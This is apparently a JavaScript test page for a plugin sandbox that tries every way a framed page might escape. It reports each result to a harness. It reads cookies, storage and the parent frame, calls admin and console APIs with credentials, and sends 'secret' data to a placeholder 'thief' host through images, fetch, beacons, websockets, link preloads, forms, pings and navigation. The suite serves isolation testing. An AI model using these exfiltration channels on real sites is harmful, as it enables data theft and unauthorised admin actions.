// Tries whatever a page can try to get out of its frame, and tells its plugin what came of it.
const tell = facts => fetch('tell', { method: 'POST', body: new URLSearchParams(facts) });
const thief = (await (await fetch('told')).text()).match(/thief=([^,}]*)/)?.[1];
const origin = new URL(location.href).origin;
const pause = millis => new Promise(done => setTimeout(done, millis));

async function attempt(name, work) {
  let outcome;
  try {
    outcome = String(await work());
  } catch {
    outcome = 'refused';
  }
  await tell({ [name]: outcome });
}

// What says of itself how it ended: loaded, or refused.
function loading(element, source, place = document.body) {
  return new Promise((loaded, refused) => {
    element.onload = () => loaded('loaded');
    element.onerror = refused;
    Object.assign(element, source);
    place.append(element);
  });
}

function form(action, method, target) {
  const made = Object.assign(document.createElement('form'), { action, method, target });
  made.append(Object.assign(document.createElement('input'), { name: 'secret', value: 'form' }));
  document.body.append(made);
  made.submit();
}

if (thief && !location.search) {
  await attempt('own', async () => (await tell({ own: '?' })).status);
  await attempt('cookies', () => document.cookie);
  await attempt('storage', () => localStorage.length);
  await attempt('parent', () => parent.document.title);
  await attempt('top', () => { top.location.href = `${thief}/top`; });
  await attempt('popup', () => open(`${thief}/popup`));
  await attempt('admin', async () => (await fetch(`${origin}/admin/api/v1/plugins`, { credentials: 'include' })).status);
  await attempt('console', async () => (await fetch(`${origin}/console/users`, { credentials: 'include' })).status);
  await attempt('other', async () => (await fetch(`${origin}/console/frame/${'x'.repeat(32)}/`)).status);
  await attempt('image', () => loading(new Image(), { src: `${thief}/image` }));
  await attempt('fetch', async () => (await fetch(`${thief}/fetch`, { mode: 'no-cors' })).type);
  await attempt('beacon', () => navigator.sendBeacon(`${thief}/beacon`, 'secret') ? pause(300).then(() => 'refused') : 'refused');
  await attempt('script', () => loading(document.createElement('script'), { src: `${thief}/script.js` }));
  await attempt('style', () => loading(document.createElement('link'), { rel: 'stylesheet', href: `${thief}/style.css` }));
  await attempt('socket', () => new Promise((opened, refused) => {
    const socket = new WebSocket(`${thief.replace('http', 'ws')}/socket`);
    socket.onopen = opened;
    socket.onerror = refused;
  }));
  for (const rel of ['prefetch', 'preload', 'preconnect', 'icon', 'manifest', 'modulepreload']) {
    document.head.append(Object.assign(document.createElement('link'), { rel, href: `${thief}/${rel}`, as: 'image' }));
  }
  document.body.append(Object.assign(document.createElement('div'), { style: `background: url(${thief}/background)` }));
  for (const element of ['iframe', 'embed', 'video']) {
    document.body.append(Object.assign(document.createElement(element), { src: `${thief}/${element}` }));
  }
  parent.postMessage({ secret: 'message' }, '*');
  await tell({ end: 'end' });
  form(`${thief}/form`, 'post', '_self');
  form(`${thief}/form`, 'get', '_self');
  form(`${thief}/form`, 'post', '_blank');
  form(`${origin}/console/plugins/kind/disable`, 'post', '_self');
  form(new URL('tell', location.href).href, 'post', '_top');
  Object.assign(document.createElement('a'), { href: `${thief}/link`, target: '_top' }).click();
  Object.assign(document.createElement('a'), { href: `${thief}/ping`, ping: `${thief}/ping`, target: '_blank' }).click();
  await pause(300);
  await tell({ still: 'here' });
  location.href = `${thief}/navigation?secret=1`;
}
